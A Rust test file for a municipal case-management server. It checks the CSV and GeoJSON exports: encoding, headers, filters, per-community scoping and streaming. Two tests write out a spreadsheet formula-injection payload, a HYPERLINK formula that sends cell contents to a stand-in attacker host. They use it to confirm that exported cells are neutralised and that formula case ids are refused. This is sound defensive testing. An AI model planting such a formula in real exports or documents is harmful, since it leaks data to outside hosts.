//! The case exports: a CSV that opens in Excel, and GeoJSON.

use chrono::Duration;
use serde_json::{json, Value};
use yiwang_tests::kit::TestServer;

use crate::common::{act_ok, hotline, intake, G1, G2};

#[tokio::test]
async fn csv_export_opens_in_excel_and_geojson_parses() {
    let s = TestServer::start().await;
    let op = s.login("community-001").await;
    let mut urgent = hotline(G1, "01.02", "=1+1 文化路, \"东\"侧\n电线");
    urgent["urgent"] = json!(true);
    let a = intake(&s, &op, urgent).await;
    s.advance(Duration::minutes(1));
    let b = intake(&s, &op, hotline(G2, "03.01", "暴露垃圾")).await;
    let mut no_place = hotline(G2, "03.01", "无定位");
    no_place
        .as_object_mut()
        .unwrap()
        .retain(|k, _| k != "lat" && k != "lon");
    s.advance(Duration::minutes(1));
    let c = intake(&s, &op, no_place).await;
    act_ok(
        &s,
        &op,
        b["id"].as_str().unwrap(),
        json!({"action": "claim"}),
    )
    .await;

    let center = s.login("center").await;
    let r = s
        .get(&center, "/api/v1/exports/cases.csv?sort=reported_at:asc")
        .await;
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["content-type"], "text/csv; charset=utf-8");
    let disposition = r.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(
        disposition.starts_with("attachment;") && disposition.contains("cases-20261126.csv"),
        "the browser saves it as a file: {disposition}"
    );
    let bytes = r.bytes().await.unwrap();
    assert_eq!(
        &bytes[..3],
        b"\xEF\xBB\xBF",
        "UTF-8 with a BOM, so Excel reads the Chinese"
    );
    let text = std::str::from_utf8(&bytes[3..]).unwrap();
    assert!(text.contains("\r\n"), "CRLF line ends");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    assert_eq!(
        headers,
        [
            "案件编号",
            "状态",
            "类别",
            "紧急",
            "描述",
            "网格",
            "社区",
            "街道",
            "当前单位",
            "部门",
            "上报时间",
            "处置时限",
            "结案时间",
            "结果",
            "群众评价",
            "办理人员评价",
            "来源渠道",
            "地址",
            "联系人",
            "超期",
            "督办次数"
        ],
        "the Chinese headers, in order"
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 3, "one row per case");
    let first = &rows[0];
    assert_eq!(&first[0], a["id"].as_str().unwrap());
    assert_eq!(&first[1], "待受理");
    assert_eq!(&first[2], "01.02 电线裸露或私拉乱接");
    assert_eq!(&first[3], "是", "urgent");
    assert_eq!(
        &first[4], "'=1+1 文化路, \"东\"侧\n电线",
        "commas, quotes and newlines survive; a formula is quoted so it never runs"
    );
    assert_eq!(&first[5], "社区1-1第1网格");
    assert_eq!((&first[6], &first[7]), ("社区1-1", "街道1"));
    assert_eq!(&first[10], "2026-11-26 09:00:00", "times are Beijing time");
    assert_eq!(&first[16], "8890热线", "the channel it came in by");
    assert_eq!(&first[18], "张先生 13800000000", "the caller, to call back");
    assert_eq!(
        (&first[19], &first[20]),
        ("否", "0"),
        "not overdue, never urged"
    );
    assert_eq!(&rows[1][1], "已认领");
    assert_eq!(&rows[1][8], "社区1-1", "the unit holding it now");

    let claimed = s
        .get(&center, "/api/v1/exports/cases.csv?state=claimed")
        .await;
    let body = claimed.text().await.unwrap();
    assert_eq!(
        body.trim_end().lines().count(),
        2,
        "the export takes the list's filters: header and the one claimed case"
    );
    let none = s.login("community-003").await;
    let theirs = s
        .get(&none, "/api/v1/exports/cases.csv")
        .await
        .text()
        .await
        .unwrap();
    assert_eq!(
        theirs.trim_end().lines().count(),
        1,
        "another community exports only the header"
    );
    let r = s.get(&center, "/api/v1/exports/cases.csv?page=2").await;
    assert_eq!(r.status(), 400, "an export has no pages");

    let r = s
        .get(
            &center,
            "/api/v1/exports/cases.geojson?sort=reported_at:asc",
        )
        .await;
    assert_eq!(r.status(), 200);
    assert_eq!(r.headers()["content-type"], "application/geo+json");
    let geo: Value = r.json().await.expect("the export is JSON");
    assert_eq!(geo["type"], "FeatureCollection");
    let features = geo["features"].as_array().unwrap();
    assert_eq!(features.len(), 3, "one feature per case");
    assert_eq!(features[0]["type"], "Feature");
    assert_eq!(features[0]["id"], a["id"]);
    assert_eq!(
        features[0]["geometry"],
        json!({"type": "Point", "coordinates": [122.504, 40.615]}),
        "a point at [lon, lat], as RFC 7946 orders them"
    );
    assert_eq!(features[0]["properties"]["state_label"], "待受理");
    assert_eq!(features[2]["id"], c["id"]);
    assert!(
        features[2]["geometry"].is_null(),
        "a case without a location has no geometry"
    );
}

/// Issue 13, first finding: a device chose its case ids, and a formula as one reached the CSV
/// unguarded. Case ids are UUIDs now (`formula_case_id_is_refused`), so the formula rides in the
/// description, free text a device does choose: every cell of every row still reads as text in
/// a spreadsheet.
#[tokio::test]
async fn no_csv_cell_starts_a_formula_whatever_a_device_sent() {
    use yiwang_tests::kit::ops;
    let s = TestServer::start().await;
    let worker = s.login("worker-0001").await;
    let formula = "=HYPERLINK(\"https://evil.example/?\"&E2,\"详情\")";
    let mut finding = ops::finding(&ops::new_id(), G1, "report", Some(&ops::new_id()));
    finding["data"]["description"] = json!(formula);
    let push = s
        .post(
            &worker,
            "/api/v1/sync/push",
            &json!({"device_id": "dev-worker-0001", "ops": [finding]}),
        )
        .await;
    let body: Value = push.json().await.unwrap();
    assert_eq!(body["results"][0]["status"], "applied", "{body}");

    let center = s.login("center").await;
    let text = s
        .get(&center, "/api/v1/exports/cases.csv")
        .await
        .text()
        .await
        .unwrap();
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{FEFF}').as_bytes());
    let mut rows = 0;
    let mut found = false;
    for record in reader.records() {
        let record = record.unwrap();
        rows += 1;
        for c in record.iter() {
            assert!(
                !c.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would evaluate: {c:?}"
            );
        }
        found |= record.iter().any(|c| c == format!("'{formula}"));
    }
    assert!(rows > 0, "the export has rows");
    assert!(found, "the case is there, its description shown as text");
}

/// Issue 13, first finding: a formula (or any text but a UUID) as a case id is refused, and no
/// case or finding is stored under it.
#[tokio::test]
async fn formula_case_id_is_refused() {
    use yiwang_tests::kit::ops;
    let s = TestServer::start().await;
    let worker = s.login("worker-0001").await;
    let formula = "=HYPERLINK(\"https://evil.example/?\"&E2,\"详情\")";
    let upper = ops::new_id().to_uppercase();
    let before = s.ledger().case_count().await;
    for bad in [formula, "c0", upper.as_str()] {
        let finding_id = ops::new_id();
        let push = s
            .post(
                &worker,
                "/api/v1/sync/push",
                &json!({
                    "device_id": "dev-worker-0001",
                    "ops": [ops::finding(&finding_id, G1, "report", Some(bad))]
                }),
            )
            .await;
        let body: Value = push.json().await.unwrap();
        let r = &body["results"][0];
        assert_eq!(
            r["status"], "rejected",
            "a case id {bad:?} is no UUID: {body}"
        );
        assert_eq!(r["code"], "invalid_input", "{body}");
        assert!(r["message"].as_str().unwrap().contains("case_id"), "{body}");
        let view = s.ledger();
        let case = view.case(&yiwang_core::ids::CaseId::new(bad)).await;
        let fid = yiwang_core::ids::FindingId::new(finding_id);
        let finding = view.ledger.read(move |tx| tx.finding(&fid)).await.unwrap();
        let stored = (case.is_some(), finding.is_some());
        assert_eq!(stored, (false, false), "nothing stored for case id {bad:?}");
    }
    assert_eq!(s.ledger().case_count().await, before, "no case was opened");
}

/// An export longer than one page of the stream lists every case the list holds, in the list's
/// order, sent as it is read (chunked, no length known in advance).
#[tokio::test]
async fn a_long_export_streams_every_case_in_the_list_order() {
    use yiwang_server::demo::{seed_history, HistorySpec};
    use yiwang_server::state::Reference;
    let s = TestServer::start().await;
    let seeded = s.seeded.clone();
    let now = s.now();
    let cases = yiwang_server::console::exports::EXPORT_PAGE * 2 + 37;
    s.state
        .ledger
        .write(move |tx| {
            let reference = Reference::load(tx, yiwang_core::calendar::WorkingCalendar::china())?;
            let spec = HistorySpec {
                cases,
                days: 20,
                on_spot_findings: 0,
                patrol_days: 0,
                seed: 7,
            };
            seed_history(tx, &reference, &seeded, &spec, now, &|_| {}).map(|_| ())
        })
        .await
        .expect("a history seeds");

    let center = s.login("center").await;
    let mut listed = vec![];
    for page in 1.. {
        let l = s
            .get_json(
                &center,
                &format!("/api/v1/cases?sort=reported_at:asc&page_size=200&page={page}"),
            )
            .await;
        let items = l["items"].as_array().unwrap();
        if items.is_empty() {
            break;
        }
        listed.extend(items.iter().map(|c| c["id"].as_str().unwrap().to_owned()));
    }
    assert!(listed.len() >= cases, "the list holds the seeded cases");

    let r = s
        .get(&center, "/api/v1/exports/cases.csv?sort=reported_at:asc")
        .await;
    assert_eq!(r.status(), 200);
    assert!(
        r.headers().get("content-length").is_none(),
        "the export is streamed, not built whole first"
    );
    let bytes = r.bytes().await.unwrap();
    let text = std::str::from_utf8(&bytes[3..]).unwrap();
    let exported: Vec<String> = csv::Reader::from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap()[0].trim_start_matches('\'').to_owned())
        .collect();
    assert_eq!(exported, listed, "every case once, in the list's order");

    let r = s
        .get(
            &center,
            "/api/v1/exports/cases.geojson?sort=reported_at:asc",
        )
        .await;
    let geo: Value = r.json().await.unwrap();
    let ids: Vec<String> = geo["features"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["id"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(ids, listed, "the GeoJSON too");
}
